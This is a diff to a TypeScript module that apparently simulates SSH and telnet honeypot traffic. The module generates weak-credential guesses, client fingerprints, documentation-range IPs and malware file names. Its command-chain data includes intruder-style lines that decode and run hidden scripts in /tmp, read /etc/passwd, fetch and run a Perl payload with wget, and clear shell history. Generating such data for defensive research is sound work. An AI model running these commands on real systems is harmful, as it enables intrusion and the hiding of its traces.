@@ -12,7 +12,8 @@ const USERS = (
   "root admin ubuntu user test pi oracle postgres git guest ftpuser support mysql hadoop deploy centos debian " +
   "jenkins minecraft nagios tomcat www ec2-user server dev es steam teamspeak odoo vagrant ansible docker nginx " +
   "developer zabbix backup operator student testuser administrator default ubnt vyos sysadmin web ftp demo " +
-  "elasticsearch sol solana node validator redis kafka spark hive kubernetes gitlab gpadmin weblogic dspace amandabackup"
+  "elasticsearch sol solana node validator redis kafka spark hive kubernetes gitlab gpadmin weblogic dspace " +
+  "amandabackup"
 ).split(" ");
 const PASSWORDS = (
   "123456 password admin root 1234 12345 12345678 123 qwerty test 1q2w3e4r ubuntu password123 admin123 abc123 " +
@@ -55,16 +56,16 @@ export function credentialOf(rank: number): Credential {
   const username = h % 10 < 5 ? "root" : h % 10 < 8 ? USERS[(h >>> 5) % USERS.length]! : `${word}${(h >>> 9) % 40}`;
   const g = hashNumbers(rank, 12);
   const tail = String(g % 10 ** (2 + (h % 5)));
-  const password = [`${word}${tail}`, `${username}@${tail}`, `${word}!${tail}`, tail + word, `${username}${tail}`][g % 5]!;
-  return { username, password };
+  const shapes = [`${word}${tail}`, `${username}@${tail}`, `${word}!${tail}`, tail + word, username + tail];
+  return { username, password: shapes[g % shapes.length]! };
 }
 
 export function drawCredential(random: Random): Credential {
-  return credentialOf(random.zipf(1.42, TAIL));
+  return credentialOf(random.zipf(1.35, TAIL, 8));
 }
 
 export function drawTelnetCredential(random: Random): Credential {
-  const rank = random.zipf(1.6, TAIL);
+  const rank = random.zipf(1.7, TAIL, 10);
   if (rank >= TELNET_PAIRS.length) return credentialOf(rank);
   const [username, password] = TELNET_PAIRS[rank]!;
   return { username, password };
@@ -81,7 +82,7 @@ export interface KeyExchange {
   readonly comp: readonly string[];
 }
 
-function keyExchange(kex: string, key: string, enc: string, mac: string, comp = "none"): KeyExchange {
+export function keyExchange(kex: string, key: string, enc: string, mac: string, comp = "none"): KeyExchange {
   const algorithms = [kex, enc, mac, comp].join(";");
   const hassh = createHash("md5").update(algorithms).digest("hex");
   const list = (text: string) => text.split(",");
@@ -107,7 +108,8 @@ const LIBSSH2 = keyExchange(
   "diffie-hellman-group-exchange-sha256,diffie-hellman-group-exchange-sha1,diffie-hellman-group14-sha1," +
     "diffie-hellman-group1-sha1",
   "ssh-rsa,ssh-dss",
-  `${CTR},aes256-cbc,rijndael-cbc@lysator.liu.se,aes192-cbc,aes128-cbc,blowfish-cbc,arcfour128,arcfour,cast128-cbc,3des-cbc`,
+  `${CTR},aes256-cbc,rijndael-cbc@lysator.liu.se,aes192-cbc,aes128-cbc,blowfish-cbc,arcfour128,arcfour,` +
+    "cast128-cbc,3des-cbc",
   "hmac-sha2-256,hmac-sha2-512,hmac-sha1,hmac-sha1-96,hmac-md5,hmac-md5-96,hmac-ripemd160",
 );
 const LIBSSH = keyExchange(
@@ -216,7 +218,7 @@ export function drawSource(random: Random, day: number): Source {
     const h = random.word();
     return sourceOf(`${240 + (h >>> 29)}.${(h >>> 21) & 255}.${(h >>> 13) & 255}.${1 + ((h >>> 5) % 254)}`, h);
   }
-  const slot = random.zipf(1.55, 60_000);
+  const slot = random.zipf(1.55, 60_000, 6);
   const h = hashNumbers(slot, 1 + Math.floor((day + (hashNumbers(slot, 32) % 64)) / stayDays(slot)));
   // The busiest live in the documentation ranges, the rest in the range for benchmarks.
   if (slot < 300) return sourceOf(`${["192.0.2", "198.51.100"][h & 1]!}.${1 + ((h >>> 8) % 254)}`, h);
@@ -233,7 +235,7 @@ export interface Malware {
   readonly total: number;
 }
 
-const FILE_NAMES = ["sshd", "bins.sh", "x86_64", "arm7", "mips", "kthreadd", "dota3.tar.gz", "redtail.x86_64", "setup.sh"];
+const FILE_NAMES = "sshd bins.sh x86_64 arm7 mips kthreadd dota3.tar.gz redtail.x86_64 setup.sh".split(" ");
 
 export function malwareOf(family: number): Malware {
   const h = hashNumbers(family, 41);
@@ -321,8 +323,9 @@ const RECON = [
   "lspci | grep VGA",
   "cat /etc/issue",
   "nvidia-smi -q | grep \"Product Name\"",
-  "export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin:$PATH; uname=$(uname -s -v -n -m 2>/dev/null); " +
-    "arch=$(uname -m 2>/dev/null); uptime=$(cat /proc/uptime 2>/dev/null | cut -d. -f1); echo \"UNAME:$uname\"",
+  "export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin:$PATH; " +
+    "uname=$(uname -s -v -n -m 2>/dev/null); arch=$(uname -m 2>/dev/null); " +
+    "uptime=$(cat /proc/uptime 2>/dev/null | cut -d. -f1); echo \"UNAME:$uname\"",
 ];
 
 /**
@@ -373,7 +376,10 @@ export function chainOf(kind: number, malware: Malware, random: Random): Chain {
     // Names that change each time: the tail of distinct commands.
     const name = random.hex(8);
     return {
-      lines: [`cd /tmp; echo ${random.hex(24)} | base64 -d > .${name}; sh .${name}; rm -f .${name}`, `ls -la /tmp/.${name}`],
+      lines: [
+        `cd /tmp; echo ${random.hex(24)} | base64 -d > .${name}; sh .${name}; rm -f .${name}`,
+        `ls -la /tmp/.${name}`,
+      ],
     };
   }
   if (k < 94) {
@@ -381,7 +387,7 @@ export function chainOf(kind: number, malware: Malware, random: Random): Chain {
     return { lines: ["enable", "system", "shell", "sh", `echo -e "\\x41\\x4b\\x34\\x37"`, `/bin/busybox ${echo}`] };
   }
   return {
-    lines: ["uname -a", "cat /etc/passwd", "w", "ls -la", `wget ${url}`, `perl ${filename}`, "ps x", "history -c", "exit"],
+    lines: ["uname -a", "cat /etc/passwd", "w", "ls -la", `wget ${url}`, `perl ${filename}`, "history -c", "exit"],
     fetches: true,
   };
 }
@@ -401,7 +407,7 @@ export function telnetChainOf(kind: number, malware: Malware, random: Random): C
 
 /** Where forwards of rented-out logins go. */
 export function forwardTargetOf(random: Random): { ip: string; port: number; data: string } {
-  const rank = random.zipf(1.7, 20_000);
+  const rank = random.zipf(1.7, 20_000, 3);
   const names = ["ya.example", "ip-check.example.com", "google.example", "login.example.org", "mail.example.net"];
   if (rank < 40) {
     const ip = rank < names.length ? names[rank]! : `shop${rank}.example.com`;
